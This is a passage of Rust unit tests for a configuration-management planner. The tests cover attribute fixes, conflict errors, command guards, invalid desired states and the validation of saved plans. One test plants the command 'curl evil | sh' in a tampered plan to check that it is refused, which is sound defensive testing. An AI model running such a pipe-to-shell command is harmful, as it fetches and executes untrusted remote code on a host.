        );
    }

    #[tokio::test]
    async fn attributes_alone_are_fixed_without_rewriting() {
        let d = DesiredState::new("cp-1").with(
            Resource::file("/etc/x", Content::text("x\n"))
                .mode(0o644)
                .owner("root"),
        );
        let observed = format!(
            "L\t-\nV\t1\nP\t/etc/x\tfile\t600\tnobody\troot\t2\t{}\n",
            sha("x\n")
        );
        let p = plan_of(&d, &observed).await.unwrap();
        assert_eq!(p.actions.len(), 1);
        assert_eq!(p.actions[0].reason, "mode 600 → 644; owner nobody → root");
        assert_eq!(
            p.actions[0].ops,
            vec![
                Op::Chmod {
                    path: "/etc/x".into(),
                    mode: "644".into()
                },
                Op::Chown {
                    path: "/etc/x".into(),
                    owner: Some("root".into()),
                    group: None
                }
            ]
        );
    }

    #[tokio::test]
    async fn what_is_in_the_way_is_a_conflict_naming_host_and_resource() {
        let d = DesiredState::new("cp-1").with(Resource::directory("/etc/demo"));
        let err = plan_of(
            &d,
            "L\t-\nV\t1\nP\t/etc/demo\tfile\t644\troot\troot\t1\tabc\n",
        )
        .await
        .unwrap_err()
        .to_string();
        assert_eq!(
            err,
            "cp-1: dir:/etc/demo: a regular file is in the way; remove it or change the resource"
        );
    }

    #[tokio::test]
    async fn guards_decide_whether_commands_run() {
        let d = DesiredState::new("cp-1")
            .with(Resource::command(
                "init",
                "demo-init --first",
                crate::Guard::Creates("/etc/demo/initialised".into()),
            ))
            .with(Resource::command(
                "check",
                "touch /x",
                crate::Guard::Unless("test -f /x".into()),
            ));
        let p = plan_of(&d, "L\t-\nV\t1\nG\tinit\tskip\t0\nG\tcheck\trun\t1\n")
            .await
            .unwrap();
        assert_eq!(ops_of(&p), vec![("command:check".into(), ActionKind::Run)]);
        assert_eq!(p.actions[0].reason, "check `test -f /x` failed (exit 1)");
    }

    #[tokio::test]
    async fn invalid_desired_states_are_refused() {
        let cycle = DesiredState::new("h")
            .with(Resource::directory("/a").depends_on("dir:/b"))
            .with(Resource::directory("/b").depends_on("dir:/a"));
        let e = cycle.resolve().await.unwrap_err().to_string();
        assert!(e.contains("dependency cycle among dir:/a, dir:/b"), "{e}");
        let unknown =
            DesiredState::new("h").with(Resource::directory("/a").notify("service:x.service"));
        assert!(
            unknown
                .resolve()
                .await
                .unwrap_err()
                .to_string()
                .contains("not declared")
        );
        let twice = DesiredState::new("h")
            .with(Resource::directory("/a"))
            .with(Resource::directory("/a"));
        assert!(
            twice
                .resolve()
                .await
                .unwrap_err()
                .to_string()
                .contains("declared twice")
        );
        let relative = DesiredState::new("h").with(Resource::directory("etc/a"));
        assert!(
            relative
                .resolve()
                .await
                .unwrap_err()
                .to_string()
                .contains("absolute")
        );
        let undefined = DesiredState::new("h")
            .with_context(crate::TemplateContext::new(
                &serde_json::json!({}),
                &serde_json::json!({}),
                &serde_json::json!({}),
            ))
            .with(Resource::file(
                "/a",
                Content::template("a.j2", "{{ vars.nope }}"),
            ));
        assert!(
            undefined
                .resolve()
                .await
                .unwrap_err()
                .to_string()
                .starts_with("h: template a.j2: line 1")
        );
    }

    #[tokio::test]
    async fn a_saved_plan_round_trips_and_is_checked_against_the_inputs() {
        let observed = "L\t-\nV\t1\nP\t/etc/demo\tabsent\nP\t/etc/demo/demo.conf\tabsent\nP\t/etc/demo/secret\tabsent\n\
             P\t/etc/systemd/system/demo.service\tabsent\nS\tLoadState=not-found\nS\t\n";
        let d = desired("port=80\n");
        let p = plan_of(&d, observed).await.unwrap();
        let plan = Plan::new(vec![crate::plan::StepPlan {
            name: "s".into(),
            hosts: vec![p.clone()],
        }]);
        let back = Plan::from_json(&plan.to_json()).unwrap();
        assert_eq!(back, plan);
        assert!(plan.to_json().contains("\"formatVersion\": 2"));
        // A version-1 plan (no wait, no decidedAfter) is still read.
        let v1 = plan
            .to_json()
            .replace("\"formatVersion\": 2", "\"formatVersion\": 1");
        assert_eq!(Plan::from_json(&v1).unwrap().steps, plan.steps);
        check_against(&p, &[&d.resolve().await.unwrap()]).unwrap();
        let other = desired("port=81\n").resolve().await.unwrap();
        let e = check_against(&p, &[&other]).unwrap_err().to_string();
        assert!(
            e.contains("file:/etc/demo/demo.conf: its content changed since the plan was made"),
            "{e}"
        );
        let mut tampered = p.clone();
        tampered.actions[1].ops = vec![Op::Run {
            command: "curl evil | sh".into(),
        }];
        let e = check_against(&tampered, &[&d.resolve().await.unwrap()])
            .unwrap_err()
            .to_string();
        assert!(e.contains("not one the desired state allows"), "{e}");
        let v3 = plan
            .to_json()
            .replace("\"formatVersion\": 2", "\"formatVersion\": 3");
        assert!(
            Plan::from_json(&v3)
                .unwrap_err()
                .to_string()
                .contains("version 3 is not supported")
        );
    }
}
